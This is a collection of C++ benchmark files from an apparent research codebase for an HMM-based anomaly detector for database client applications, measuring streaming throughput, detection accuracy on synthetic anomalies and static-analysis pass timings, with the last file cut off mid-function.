void Run(const Preset& preset, const std::string& json_path) {
  PrintHeader(preset.smoke
                  ? "Streaming service throughput & latency (smoke)"
                  : "Streaming service throughput & latency");

  PreparedApp prepared = Prepare(apps::MakeGrepLike());
  core::AdProm system = TrainOrDie(prepared);
  const core::ApplicationProfile& profile = system.profile();

  std::vector<runtime::CallEvent> pool_events;
  for (const runtime::Trace& trace : system.training_traces()) {
    pool_events.insert(pool_events.end(), trace.begin(), trace.end());
  }
  std::printf("corpus: grep-like, %zu pooled events, window %zu,"
              " min-of-%zu runs\n",
              pool_events.size(), profile.options.window_length,
              preset.timing_repeats);

  const size_t workers = util::ThreadPool::DefaultConcurrency();
  std::vector<StreamRun> runs;

  // Baseline: one session scored inline on the submitting thread — the
  // raw per-event cost of the incremental forward recursion.
  runs.push_back(RunConfig(profile, pool_events, 1, preset, nullptr));

  util::ThreadPool pool(workers);
  for (size_t sessions : preset.session_sweep) {
    runs.push_back(RunConfig(profile, pool_events, sessions, preset, &pool));
  }

  util::TablePrinter table({"mode", "sessions", "events", "seconds",
                            "events/sec", "submit p50 (us)",
                            "submit p99 (us)"});
  for (const StreamRun& run : runs) {
    table.AddRow({run.name, std::to_string(run.sessions),
                  std::to_string(run.events),
                  util::StrFormat("%.3f", run.seconds),
                  util::StrFormat("%.0f", run.events_per_sec),
                  util::StrFormat("%.2f", run.p50_us),
                  util::StrFormat("%.2f", run.p99_us)});
  }
  table.Print();
  std::printf("(inline = null-pool synchronous scoring; pooled rows run"
              " %zu workers, kBlock overflow — p99 shows back-pressure)\n",
              workers);

  // Fleet churn sweep: session setup cost dominates (one window per
  // session), which is exactly the regime where sharing the compiled
  // engine per tenant pays off over the per-session baseline.
  std::printf("\nfleet churn sweep: %zu-event sessions over %zu tenants\n",
              profile.options.window_length, preset.fleet_tenants);
  std::vector<FleetRun> fleet_runs;
  fleet_runs.push_back(RunFleetConfig(profile, pool_events, /*shards=*/0,
                                      preset.fleet_tenants,
                                      preset.fleet_sessions.front(), preset,
                                      &pool));
  for (size_t sessions : preset.fleet_sessions) {
    for (size_t shards : preset.fleet_shards) {
      fleet_runs.push_back(RunFleetConfig(profile, pool_events, shards,
                                          preset.fleet_tenants, sessions,
                                          preset, &pool));
    }
  }

  util::TablePrinter fleet_table({"mode", "shards", "sessions", "events",
                                  "seconds", "events/sec", "p99 (us)",
                                  "drops", "max backlog"});
  for (const FleetRun& run : fleet_runs) {
    fleet_table.AddRow({run.name, std::to_string(run.shards),
                        std::to_string(run.sessions),
                        std::to_string(run.events),
                        util::StrFormat("%.3f", run.seconds),
                        util::StrFormat("%.0f", run.events_per_sec),
                        util::StrFormat("%.2f", run.p99_us),
                        std::to_string(run.drops),
                        std::to_string(run.backlog_max)});
  }
  fleet_table.Print();
  const double baseline = fleet_runs.front().events_per_sec;
  for (const FleetRun& run : fleet_runs) {
    if (run.name == "fleet" && run.shards >= 8 &&
        run.sessions == preset.fleet_sessions.front()) {
      std::printf("fleet @%zu shards vs single-manager baseline: %.2fx\n",
                  run.shards, run.events_per_sec / baseline);
    }
  }

  WriteJson(runs, fleet_runs, workers, preset, json_path);
}

}  // namespace
}  // namespace adprom::bench

int main(int argc, char** argv) {
  std::string json_path =
      std::string(ADPROM_SOURCE_DIR) + "/BENCH_streaming.json";
  adprom::bench::Preset preset;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    if (arg == "--json" && i + 1 < argc) {
      json_path = argv[++i];
    } else if (arg.rfind("--json=", 0) == 0) {
      json_path = arg.substr(7);
    } else if (arg == "--smoke") {
      preset = adprom::bench::SmokePreset();
    }
  }
  adprom::bench::Run(preset, json_path);
  return 0;
}
