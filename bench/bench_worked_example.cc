// Reproduces the paper's worked example (Fig. 3): prints the CTM of
// main() (Table I), the CTM of f() (Table II) including the DDG-labeled
// printf_Q site and the CTV the paper derives from it, and the aggregated
// program CTM with its invariants.

#include <cstdio>

#include "bench/bench_common.h"

namespace adprom::bench {
namespace {

constexpr const char* kWorkedExample = R"__(
fn main() {
  var x = 1;
  if (x < 2) {
    print("a");
  } else {
    print("b");
    if (x < 3) {
      var r = db_query("SELECT * FROM items WHERE ID = 10");
      f(r);
    }
  }
}

fn f(r) {
  var y = 1;
  if (y < 2) {
    print("path");
  } else {
    if (y < 3) {
      print(r);
    }
  }
}
)__";

void Run() {
  auto program = prog::ParseProgram(kWorkedExample);
  ADPROM_CHECK(program.ok());
  core::Analyzer analyzer;
  auto analysis = analyzer.Analyze(*program);
  ADPROM_CHECK(analysis.ok());

  PrintHeader("Table I — CTM of function main() (mCTM)");
  std::fputs(analysis->function_ctms.at("main").ToString().c_str(), stdout);

  PrintHeader("Table II — CTM of function f() (fCTM)");
  const analysis::Ctm& fctm = analysis->function_ctms.at("f");
  std::fputs(fctm.ToString().c_str(), stdout);

  // The paper's CTV example: incoming column + outgoing row of the
  // labeled print site.
  for (size_t i = 0; i < fctm.num_sites(); ++i) {
    if (!fctm.site(i).labeled) continue;
    std::printf("\nCTV of %s: <%.2f", fctm.site(i).observable.c_str(),
                fctm.entry_to(i));
    for (size_t j = 0; j < fctm.num_sites(); ++j)
      std::printf(", %.2f", fctm.between(j, i));
    std::printf(" | %.2f", fctm.to_exit(i));
    for (size_t j = 0; j < fctm.num_sites(); ++j)
      std::printf(", %.2f", fctm.between(i, j));
    std::printf(">\n");
    std::printf("source tables: ");
    for (const std::string& t : fctm.site(i).source_tables)
      std::printf("%s ", t.c_str());
    std::printf("\n");
  }

  PrintHeader("Aggregated program CTM (pCTM)");
  std::fputs(analysis->program_ctm.ToString().c_str(), stdout);
  const util::Status invariants = analysis->program_ctm.CheckInvariants();
  std::printf("\npCTM invariants (entry row = 1, exit column = 1, "
              "inflow = outflow per call): %s\n",
              invariants.ok() ? "HOLD" : invariants.ToString().c_str());
}

}  // namespace
}  // namespace adprom::bench

int main() {
  adprom::bench::Run();
  return 0;
}
