// Regenerates Table VII: per-application confusion matrix of the trained
// models λ_App1..λ_App4 on a mixed stream of held-out normal windows and
// synthetic anomalous sequences (A-S2: unknown library calls spliced in;
// A-S3: inflated call frequency).

#include <cstdio>

#include "attack/synthetic.h"
#include "bench/bench_common.h"
#include "eval/evaluation.h"
#include "util/strings.h"
#include "util/table_printer.h"

namespace adprom::bench {
namespace {

void EvaluateApp(apps::CorpusApp app, const apps::CorpusApp& fresh,
                 util::TablePrinter* table) {
  PreparedApp prepared = Prepare(std::move(app));

  core::ProfileOptions options;
  options.max_training_windows = 400;  // bound App4 training cost
  options.train.max_iterations = 12;
  auto system = core::AdProm::Train(prepared.program,
                                    prepared.app.db_factory,
                                    prepared.app.test_cases, options);
  ADPROM_CHECK_MSG(system.ok(), system.status().ToString());

  // Held-out normal windows come from *freshly generated* test cases
  // (different seed), so the normal side genuinely probes generalization.
  auto held_traces = core::AdProm::CollectTraces(
      prepared.program, prepared.analysis.cfgs, prepared.app.db_factory,
      fresh.test_cases);
  ADPROM_CHECK(held_traces.ok());
  std::vector<runtime::Trace> normal_windows =
      MaterializeWindows(*held_traces, system->profile().options.window_length);
  if (normal_windows.size() > 1500) normal_windows.resize(1500);

  // Synthetic anomalies from the normal pool (A-S2 and A-S3).
  attack::SyntheticAnomalyGenerator generator(normal_windows, 777);
  std::vector<runtime::Trace> anomalies = generator.MakeBatch2(45);
  for (runtime::Trace& t : generator.MakeBatch3(45)) {
    anomalies.push_back(std::move(t));
  }

  auto normal_scores = eval::ScoreWindows(system->profile(), normal_windows);
  auto anomaly_scores = eval::ScoreWindows(system->profile(), anomalies);
  ADPROM_CHECK(normal_scores.ok());
  ADPROM_CHECK(anomaly_scores.ok());
  const eval::ConfusionMatrix cm = eval::Classify(
      *normal_scores, *anomaly_scores, system->profile().threshold);

  table->AddRow({prepared.app.name, std::to_string(cm.total()),
                 std::to_string(cm.tp), std::to_string(cm.tn),
                 std::to_string(cm.fp), std::to_string(cm.fn),
                 util::StrFormat("%.2f", cm.Recall()),
                 util::StrFormat("%.2f", cm.Precision()),
                 util::StrFormat("%.4f", cm.Accuracy())});
}

void Run() {
  PrintHeader(
      "Table VII — Confusion matrix of the programs' models (A-S2 + A-S3)");
  util::TablePrinter table({"", "#seq.", "TP", "TN", "FP", "FN", "Rec.",
                            "Prec.", "Acc."});
  EvaluateApp(apps::MakeGrepLike(), apps::MakeGrepLike(40, 5001), &table);
  EvaluateApp(apps::MakeGzipLike(), apps::MakeGzipLike(30, 5002), &table);
  EvaluateApp(apps::MakeSedLike(), apps::MakeSedLike(35, 5003), &table);
  EvaluateApp(apps::MakeBashLike(),
              apps::MakeBashLike(170, 25, 5004), &table);
  table.Print();
  std::printf(
      "\n(paper: accuracies 0.9952-0.9999 with recall 0.93-1.0 — the"
      " expected shape is near-perfect accuracy with high recall)\n");
}

}  // namespace
}  // namespace adprom::bench

int main() {
  adprom::bench::Run();
  return 0;
}
