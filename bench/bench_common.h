#ifndef ADPROM_BENCH_BENCH_COMMON_H_
#define ADPROM_BENCH_BENCH_COMMON_H_

#include <chrono>
#include <cstdio>
#include <fstream>
#include <limits>
#include <sstream>
#include <string>
#include <vector>

#include "apps/corpus.h"
#include "core/adprom.h"
#include "core/analyzer.h"
#include "prog/program.h"
#include "util/logging.h"
#include "util/thread_pool.h"

namespace adprom::bench {

/// A corpus app parsed and statically analyzed, ready for trace collection
/// and training. Aborts on error: benches run on the fixed corpus, so any
/// failure is a bug, not an input condition.
struct PreparedApp {
  apps::CorpusApp app;
  prog::Program program;
  core::AnalysisResult analysis;
};

inline PreparedApp Prepare(apps::CorpusApp app) {
  auto program = prog::ParseProgram(app.source);
  ADPROM_CHECK_MSG(program.ok(), app.name + ": " +
                                     program.status().ToString());
  core::Analyzer analyzer;
  auto analysis = analyzer.Analyze(*program);
  ADPROM_CHECK_MSG(analysis.ok(), app.name + ": " +
                                      analysis.status().ToString());
  PreparedApp out{std::move(app), std::move(program).value(),
                  std::move(analysis).value()};
  return out;
}

inline core::AdProm TrainOrDie(const PreparedApp& prepared,
                               core::ProfileOptions options =
                                   core::ProfileOptions(),
                               core::ConstructionTimings* timings = nullptr) {
  auto system = core::AdProm::Train(prepared.program, prepared.app.db_factory,
                                    prepared.app.test_cases, options,
                                    timings);
  ADPROM_CHECK_MSG(system.ok(), prepared.app.name + ": " +
                                    system.status().ToString());
  return std::move(system).value();
}

/// Collects the traces of every test case of a prepared app.
inline std::vector<runtime::Trace> CollectAllTraces(
    const PreparedApp& prepared) {
  auto traces = core::AdProm::CollectTraces(
      prepared.program, prepared.analysis.cfgs, prepared.app.db_factory,
      prepared.app.test_cases);
  ADPROM_CHECK_MSG(traces.ok(), traces.status().ToString());
  return std::move(traces).value();
}

/// Materializes every n-window of a trace set as owned Trace objects
/// (the synthetic anomaly generator and scorers take value windows).
inline std::vector<runtime::Trace> MaterializeWindows(
    const std::vector<runtime::Trace>& traces, size_t n) {
  std::vector<runtime::Trace> windows;
  for (const runtime::Trace& trace : traces) {
    for (const auto& window : core::SlidingWindows(trace, n)) {
      windows.emplace_back(window.begin(), window.end());
    }
  }
  return windows;
}

inline void PrintHeader(const std::string& title) {
  std::printf("\n=== %s ===\n\n", title.c_str());
}

/// The host CPU model from /proc/cpuinfo ("unknown" where that file is
/// absent), so bench JSONs record what machine produced them.
inline std::string CpuModelName() {
  std::ifstream in("/proc/cpuinfo");
  std::string line;
  while (std::getline(in, line)) {
    if (line.rfind("model name", 0) != 0) continue;
    const size_t colon = line.find(':');
    if (colon == std::string::npos) continue;
    const size_t start = line.find_first_not_of(" \t", colon + 1);
    if (start == std::string::npos) continue;
    return line.substr(start);
  }
  return "unknown";
}

/// Runs `body` `repeats` times and returns the *minimum* single-run wall
/// time: the min of N is a far better estimator of the true cost than the
/// mean, which scheduler noise only ever inflates.
template <typename Body>
inline double MinWallSeconds(size_t repeats, Body&& body) {
  double best = std::numeric_limits<double>::infinity();
  for (size_t r = 0; r < repeats; ++r) {
    const auto t0 = std::chrono::steady_clock::now();
    body();
    const double seconds =
        std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
            .count();
    if (seconds < best) best = seconds;
  }
  return best;
}

/// The provenance block every bench JSON embeds (no surrounding braces):
/// CPU model, core count, and how timings were taken.
inline std::string JsonProvenance(size_t timing_repeats) {
  std::string cpu;
  for (char c : CpuModelName()) {
    if (c == '"' || c == '\\') cpu += '\\';
    cpu += c;
  }
  std::ostringstream out;
  out << "\"provenance\": {\"cpu_model\": \"" << cpu
      << "\", \"hardware_concurrency\": "
      << util::ThreadPool::DefaultConcurrency()
      << ", \"timing\": \"min-of-" << timing_repeats
      << "\", \"timing_repeats\": " << timing_repeats << "}";
  return out.str();
}

}  // namespace adprom::bench

#endif  // ADPROM_BENCH_BENCH_COMMON_H_
