#ifndef ADPROM_BENCH_BENCH_COMMON_H_
#define ADPROM_BENCH_BENCH_COMMON_H_

#include <cstdio>
#include <string>
#include <vector>

#include "apps/corpus.h"
#include "core/adprom.h"
#include "core/analyzer.h"
#include "prog/program.h"
#include "util/logging.h"

namespace adprom::bench {

/// A corpus app parsed and statically analyzed, ready for trace collection
/// and training. Aborts on error: benches run on the fixed corpus, so any
/// failure is a bug, not an input condition.
struct PreparedApp {
  apps::CorpusApp app;
  prog::Program program;
  core::AnalysisResult analysis;
};

inline PreparedApp Prepare(apps::CorpusApp app) {
  auto program = prog::ParseProgram(app.source);
  ADPROM_CHECK_MSG(program.ok(), app.name + ": " +
                                     program.status().ToString());
  core::Analyzer analyzer;
  auto analysis = analyzer.Analyze(*program);
  ADPROM_CHECK_MSG(analysis.ok(), app.name + ": " +
                                      analysis.status().ToString());
  PreparedApp out{std::move(app), std::move(program).value(),
                  std::move(analysis).value()};
  return out;
}

inline core::AdProm TrainOrDie(const PreparedApp& prepared,
                               core::ProfileOptions options =
                                   core::ProfileOptions(),
                               core::ConstructionTimings* timings = nullptr) {
  auto system = core::AdProm::Train(prepared.program, prepared.app.db_factory,
                                    prepared.app.test_cases, options,
                                    timings);
  ADPROM_CHECK_MSG(system.ok(), prepared.app.name + ": " +
                                    system.status().ToString());
  return std::move(system).value();
}

/// Collects the traces of every test case of a prepared app.
inline std::vector<runtime::Trace> CollectAllTraces(
    const PreparedApp& prepared) {
  auto traces = core::AdProm::CollectTraces(
      prepared.program, prepared.analysis.cfgs, prepared.app.db_factory,
      prepared.app.test_cases);
  ADPROM_CHECK_MSG(traces.ok(), traces.status().ToString());
  return std::move(traces).value();
}

/// Materializes every n-window of a trace set as owned Trace objects
/// (the synthetic anomaly generator and scorers take value windows).
inline std::vector<runtime::Trace> MaterializeWindows(
    const std::vector<runtime::Trace>& traces, size_t n) {
  std::vector<runtime::Trace> windows;
  for (const runtime::Trace& trace : traces) {
    for (const auto& window : core::SlidingWindows(trace, n)) {
      windows.emplace_back(window.begin(), window.end());
    }
  }
  return windows;
}

inline void PrintHeader(const std::string& title) {
  std::printf("\n=== %s ===\n\n", title.c_str());
}

}  // namespace adprom::bench

#endif  // ADPROM_BENCH_BENCH_COMMON_H_
