// Regenerates Table III: statistics of the CA-dataset (the three database
// client applications) — number of states (call sites in the pCTM, the
// HMM's hidden-state pool), the DBMS each client talks to, the number of
// test cases, and the number of n-length training sequences (n = 15).

#include <cstdio>

#include "bench/bench_common.h"
#include "util/table_printer.h"

namespace adprom::bench {
namespace {

void Run() {
  PrintHeader("Table III — Statistics about the CA-dataset");
  util::TablePrinter table(
      {"Client App", "#states", "DBMS", "#test cases", "#sequences"});

  const apps::CorpusApp ca[] = {apps::MakeHospitalApp(),
                                apps::MakeBankingApp(),
                                apps::MakeSupermarketApp()};
  for (const apps::CorpusApp& app : ca) {
    PreparedApp prepared = Prepare(app);
    const auto traces = CollectAllTraces(prepared);
    size_t sequences = 0;
    for (const runtime::Trace& trace : traces) {
      sequences += core::SlidingWindows(trace, 15).size();
    }
    table.AddRow({prepared.app.name,
                  std::to_string(prepared.analysis.program_ctm.num_sites()),
                  prepared.app.dbms,
                  std::to_string(prepared.app.test_cases.size()),
                  std::to_string(sequences)});
  }
  table.Print();
  std::printf(
      "\n(paper: App_h 59 states / 63 cases / 3810 seq; App_b 139/73/10286;"
      " App_s 229/36/4053 — shapes, not absolute values, are compared)\n");
}

}  // namespace
}  // namespace adprom::bench

int main() {
  adprom::bench::Run();
  return 0;
}
