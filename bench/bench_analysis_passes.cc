// Wall-time of the static analysis passes over the CA + SIR corpus: the
// legacy flow-insensitive taint pass vs the flow-sensitive dataflow
// framework (serial and pooled), reaching definitions, liveness, the
// abstract interpreter (constants + intervals) with CFG refinement, and
// the full `adprom lint` vetter. Also reports the labeled-sink counts of
// the two taint passes — the delta is the spurious labels the strong
// updates remove — and the edges/loops the refiner sharpens per app.
//
// All pass timings are the *minimum* over the repeat count (min-of-N);
// `--smoke` shrinks the corpus and repeats so the binary finishes in
// seconds for CI.
//
// Machine-readable results are written to BENCH_analysis.json at the
// repository root (override with --json <path>).

#include <chrono>
#include <cstdio>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "analysis/absint/cfg_refiner.h"
#include "analysis/absint/engine.h"
#include "analysis/summary_cache.h"
#include "bench/bench_common.h"
#include "core/analyzer.h"
#include "db/schema.h"
#include "analysis/dataflow/flow_graph.h"
#include "core/adprom.h"
#include "core/detection_engine.h"
#include "analysis/dataflow/ifds.h"
#include "analysis/dataflow/lint.h"
#include "analysis/dataflow/liveness.h"
#include "analysis/dataflow/reaching_defs.h"
#include "analysis/dataflow/taint_flow.h"
#include "analysis/taint.h"
#include "apps/corpus.h"
#include "prog/program.h"
#include "util/logging.h"
#include "util/strings.h"
#include "util/table_printer.h"
#include "util/thread_pool.h"

#ifndef ADPROM_SOURCE_DIR
#define ADPROM_SOURCE_DIR "."
#endif

namespace adprom::bench {
namespace {

std::string Num(double v) { return util::StrFormat("%.6g", v); }

struct AppResult {
  std::string name;
  size_t functions = 0;
  size_t call_sites = 0;
  double fi_taint_ms = 0.0;
  double fs_taint_ms = 0.0;
  double fs_taint_pooled_ms = 0.0;
  double reaching_defs_ms = 0.0;
  double liveness_ms = 0.0;
  double absint_ms = 0.0;
  double refine_ms = 0.0;
  double lint_ms = 0.0;
  double ifds_ms = 0.0;
  double witness_ms = 0.0;
  size_t fi_labeled_sinks = 0;
  size_t fs_labeled_sinks = 0;
  size_t pruned_edges = 0;
  size_t bounded_loops = 0;
  size_t lint_findings = 0;
  size_t ifds_sink_facts = 0;
  size_t ifds_pruned_facts = 0;
  size_t ifds_witnesses = 0;
};

/// Runs `body` `repeats` times and returns the *minimum* wall time in ms
/// (min-of-N; scheduler noise only ever inflates a run).
template <typename Fn>
double TimeMs(size_t repeats, const Fn& body) {
  return MinWallSeconds(repeats, body) * 1e3;
}

AppResult BenchApp(const apps::CorpusApp& app, size_t repeats,
                   util::ThreadPool* pool) {
  auto parsed = prog::ParseProgram(app.source);
  ADPROM_CHECK_MSG(parsed.ok(), app.name + ": " + parsed.status().ToString());
  const prog::Program program = std::move(parsed).value();
  const analysis::TaintConfig config = analysis::TaintConfig::Default();

  AppResult result;
  result.name = app.name;
  result.functions = program.functions().size();

  result.fi_taint_ms = TimeMs(repeats, [&] {
    auto taint = analysis::RunTaintAnalysis(program, config);
    ADPROM_CHECK(taint.ok());
    result.fi_labeled_sinks = taint->labeled_sinks.size();
  });
  result.fs_taint_ms = TimeMs(repeats, [&] {
    auto taint =
        analysis::dataflow::RunFlowSensitiveTaint(program, config, nullptr);
    ADPROM_CHECK(taint.ok());
    result.fs_labeled_sinks = taint->labeled_sinks.size();
  });
  result.fs_taint_pooled_ms = TimeMs(repeats, [&] {
    auto taint =
        analysis::dataflow::RunFlowSensitiveTaint(program, config, pool);
    ADPROM_CHECK(taint.ok());
  });
  result.reaching_defs_ms = TimeMs(repeats, [&] {
    for (const prog::FunctionDef& fn : program.functions()) {
      const auto graph = analysis::dataflow::FlowGraph::Build(fn);
      analysis::dataflow::ComputeReachingDefs(graph, fn.params);
    }
  });
  result.liveness_ms = TimeMs(repeats, [&] {
    for (const prog::FunctionDef& fn : program.functions()) {
      const auto graph = analysis::dataflow::FlowGraph::Build(fn);
      analysis::dataflow::ComputeLiveness(graph);
    }
  });
  analysis::absint::AbsintOptions absint_options;
  absint_options.pool = pool;
  result.absint_ms = TimeMs(repeats, [&] {
    auto absint =
        analysis::absint::RunAbstractInterpretation(program, absint_options);
    ADPROM_CHECK(absint.ok());
  });
  {
    // Refinement is cheap relative to the interpretation, so it is timed
    // on fresh CFGs each repeat (MarkInfeasible/SetLoopBound mutate them).
    auto absint =
        analysis::absint::RunAbstractInterpretation(program, absint_options);
    ADPROM_CHECK(absint.ok());
    result.refine_ms = TimeMs(repeats, [&] {
      std::map<std::string, prog::Cfg> cfgs;
      for (const prog::FunctionDef& fn : program.functions()) {
        auto cfg = prog::BuildCfg(program, fn);
        ADPROM_CHECK(cfg.ok());
        cfgs.emplace(fn.name, std::move(*cfg));
      }
      const auto summary = analysis::absint::RefineCfgs(*absint, &cfgs);
      result.pruned_edges = summary.pruned_edges;
      result.bounded_loops = summary.bounded_loops;
    });
  }
  result.lint_ms = TimeMs(repeats, [&] {
    auto report = analysis::dataflow::RunLint(program);
    ADPROM_CHECK(report.ok());
    result.lint_findings = report->findings.size();
  });

  // The IFDS engine twice: reachability only (the facts the flow-sensitive
  // pass also computes, solved on the exploded supergraph), then the full
  // demand-driven tier — conditioned feasibility replays plus witness
  // reconstruction — whose delta is the price of the witnesses.
  analysis::dataflow::IfdsOptions ifds_options;
  ifds_options.config = config;
  ifds_options.pool = pool;
  ifds_options.feasibility_filter = false;
  ifds_options.witnesses = false;
  result.ifds_ms = TimeMs(repeats, [&] {
    auto ifds = analysis::dataflow::RunIfdsTaint(program, ifds_options);
    ADPROM_CHECK(ifds.ok());
  });
  analysis::dataflow::IfdsOptions witness_options;
  witness_options.config = config;
  witness_options.pool = pool;
  result.witness_ms = TimeMs(repeats, [&] {
    auto ifds = analysis::dataflow::RunIfdsTaint(program, witness_options);
    ADPROM_CHECK(ifds.ok());
    result.ifds_sink_facts = ifds->stats.sink_facts;
    result.ifds_pruned_facts = ifds->stats.pruned_facts;
    result.ifds_witnesses = ifds->witnesses.size();
  });

  size_t sites = 0;
  for (const prog::FunctionDef& fn : program.functions()) {
    const auto graph = analysis::dataflow::FlowGraph::Build(fn);
    for (const auto& node : graph.nodes()) sites += node.expr != nullptr;
  }
  result.call_sites = sites;
  return result;
}

// --- Incremental drift bench ------------------------------------------

/// One revision of the samples/drift corpus, analyzed cold (fresh summary
/// cache) and warm (cache primed on the base revision). The timed portion
/// is the cached passes only — absint, taint, forecast, aggregation — as
/// reported by the analyzer itself; CFG extraction is identical either
/// way and excluded.
struct DriftResult {
  std::string revision;
  std::string kind;
  size_t functions = 0;
  double cold_ms = 0.0;
  double warm_ms = 0.0;
  double speedup = 0.0;
  size_t warm_hits = 0;
  size_t warm_misses = 0;
};

std::string ReadFileOrDie(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  ADPROM_CHECK_MSG(in.good(), "cannot open " + path);
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return buffer.str();
}

db::SchemaCatalog LoadCatalog(const std::string& path) {
  std::vector<std::string> statements;
  for (const std::string& line : util::Split(ReadFileOrDie(path), '\n')) {
    const std::string_view trimmed = util::Trim(line);
    if (trimmed.empty() || trimmed[0] == '#') continue;
    statements.emplace_back(trimmed);
  }
  auto catalog = db::BuildSchemaCatalog(statements);
  ADPROM_CHECK_MSG(catalog.ok(), catalog.status().ToString());
  return std::move(*catalog);
}

double CachedPassMs(const core::AnalysisResult& result) {
  return (result.absint_seconds + result.taint_seconds +
          result.forecast_seconds + result.aggregation_seconds) *
         1e3;
}

std::vector<DriftResult> RunDriftBench(size_t repeats) {
  const std::string dir = std::string(ADPROM_SOURCE_DIR) + "/samples/drift/";
  const db::SchemaCatalog base_catalog = LoadCatalog(dir + "seed.sql");
  const db::SchemaCatalog v2_catalog = LoadCatalog(dir + "seed_v2.sql");
  struct Revision {
    const char* file;
    const char* kind;
    const db::SchemaCatalog* catalog;
  };
  const Revision revisions[] = {
      {"rev0_base.mini", "none", &base_catalog},
      {"rev1_body_edit.mini", "body_edit", &base_catalog},
      {"rev2_signature.mini", "signature", &base_catalog},
      {"rev3_new_callee.mini", "new_callee", &base_catalog},
      {"rev4_schema.mini", "schema", &v2_catalog},
      {"rev5_sink_relabel.mini", "sink_relabel", &base_catalog},
  };
  auto base_program =
      prog::ParseProgram(ReadFileOrDie(dir + "rev0_base.mini"));
  ADPROM_CHECK(base_program.ok());

  std::vector<DriftResult> results;
  for (const Revision& rev : revisions) {
    auto program = prog::ParseProgram(ReadFileOrDie(dir + rev.file));
    ADPROM_CHECK(program.ok());
    DriftResult r;
    r.revision = rev.file;
    r.kind = rev.kind;
    r.functions = program->functions().size();

    double cold_best = 0.0;
    double warm_best = 0.0;
    for (size_t rep = 0; rep < repeats; ++rep) {
      {
        // Cold: a fresh cache sees only the revision (misses everywhere,
        // so this also pays the Store overhead an uncached run avoids).
        analysis::AnalysisCache cache;
        core::AnalyzerOptions options;
        options.schemas = *rev.catalog;
        options.analysis_cache = &cache;
        auto cold = core::Analyzer(options).Analyze(*program);
        ADPROM_CHECK(cold.ok());
        const double ms = CachedPassMs(*cold);
        if (rep == 0 || ms < cold_best) cold_best = ms;
      }
      {
        // Warm: prime the cache on the base revision (base catalog),
        // then analyze the edit. Priming is outside the timed portion.
        analysis::AnalysisCache cache;
        core::AnalyzerOptions prime_options;
        prime_options.schemas = base_catalog;
        prime_options.analysis_cache = &cache;
        ADPROM_CHECK(
            core::Analyzer(prime_options).Analyze(*base_program).ok());
        core::AnalyzerOptions options;
        options.schemas = *rev.catalog;
        options.analysis_cache = &cache;
        auto warm = core::Analyzer(options).Analyze(*program);
        ADPROM_CHECK(warm.ok());
        const double ms = CachedPassMs(*warm);
        if (rep == 0 || ms < warm_best) warm_best = ms;
        if (rep == 0) {
          const auto& s = warm->cache_stats;
          r.warm_hits = s.taint.hits + s.absint.hits + s.forecast.hits +
                        warm->aggregation_stats.cache_hits;
          r.warm_misses = s.taint.misses + s.absint.misses +
                          s.forecast.misses +
                          warm->aggregation_stats.cache_misses;
        }
      }
    }
    r.cold_ms = cold_best;
    r.warm_ms = warm_best;
    r.speedup = warm_best > 0.0 ? cold_best / warm_best : 0.0;
    results.push_back(std::move(r));
  }
  return results;
}

/// The forecast ablation scores the *statically seeded* HMM (Baum-Welch
/// disabled) on the absint demo's benign trace; the refined − uniform
/// delta is the sharpening the pruned edges and the loop bound buy before
/// any dynamic training can wash the seed out.
struct ForecastAblation {
  double refined_mean_score = 0.0;
  double uniform_mean_score = 0.0;
};

core::DbFactory DemoDb() {
  return [] {
    auto db = std::make_unique<db::Database>();
    db->Execute("CREATE TABLE jobs (id INT, status TEXT)");
    db->Execute("INSERT INTO jobs VALUES (0, 'queued')");
    db->Execute("INSERT INTO jobs VALUES (1, 'running')");
    db->Execute("INSERT INTO jobs VALUES (2, 'done')");
    return db;
  };
}

double MeanSeededWindowScore(const prog::Program& program, bool refined) {
  core::ProfileOptions options;
  options.window_length = 5;  // the demo trace is 13 calls long
  options.absint_refinement = refined;
  options.train.max_iterations = 0;  // score the static seed itself
  const std::vector<core::TestCase> cases(4);
  auto system = core::AdProm::Train(program, DemoDb(), cases, options);
  ADPROM_CHECK_MSG(system.ok(), system.status().ToString());

  auto cfgs = prog::BuildAllCfgs(program);
  ADPROM_CHECK(cfgs.ok());
  auto trace =
      core::AdProm::CollectTrace(program, *cfgs, DemoDb(), core::TestCase{});
  ADPROM_CHECK(trace.ok());

  const core::DetectionEngine engine(&system->profile());
  const std::vector<core::Detection> detections =
      engine.MonitorTrace(*trace);
  ADPROM_CHECK(!detections.empty());
  double sum = 0.0;
  for (const core::Detection& d : detections) sum += d.score;
  return sum / static_cast<double>(detections.size());
}

ForecastAblation RunForecastAblation() {
  std::ifstream demo_file(std::string(ADPROM_SOURCE_DIR) +
                          "/samples/absint/demo.mini");
  std::stringstream demo_source;
  demo_source << demo_file.rdbuf();
  auto program = prog::ParseProgram(demo_source.str());
  ADPROM_CHECK_MSG(program.ok(), program.status().ToString());

  ForecastAblation ablation;
  ablation.refined_mean_score = MeanSeededWindowScore(*program, true);
  ablation.uniform_mean_score = MeanSeededWindowScore(*program, false);
  std::printf(
      "\nForecast ablation (samples/absint/demo.mini, statically seeded"
      " HMM,\nmean per-symbol window log-likelihood of the benign trace):\n"
      "  refined forecast  %.4f\n  uniform forecast  %.4f\n",
      ablation.refined_mean_score, ablation.uniform_mean_score);
  return ablation;
}

void WriteJson(const std::vector<AppResult>& results,
               const std::vector<DriftResult>& drift,
               const ForecastAblation& ablation, size_t repeats,
               const std::string& json_path) {
  std::ostringstream json;
  json << "{\n";
  json << "  \"bench\": \"bench_analysis_passes\",\n";
  json << "  " << JsonProvenance(repeats) << ",\n";
  json << "  \"hardware_concurrency\": "
       << util::ThreadPool::DefaultConcurrency() << ",\n";
  json << "  \"apps\": [\n";
  for (size_t i = 0; i < results.size(); ++i) {
    const AppResult& r = results[i];
    json << "    {\"name\": \"" << r.name << "\""
         << ", \"functions\": " << r.functions
         << ", \"fi_taint_ms\": " << Num(r.fi_taint_ms)
         << ", \"fs_taint_ms\": " << Num(r.fs_taint_ms)
         << ", \"fs_taint_pooled_ms\": " << Num(r.fs_taint_pooled_ms)
         << ", \"reaching_defs_ms\": " << Num(r.reaching_defs_ms)
         << ", \"liveness_ms\": " << Num(r.liveness_ms)
         << ", \"absint_ms\": " << Num(r.absint_ms)
         << ", \"refine_ms\": " << Num(r.refine_ms)
         << ", \"lint_ms\": " << Num(r.lint_ms)
         << ", \"ifds_ms\": " << Num(r.ifds_ms)
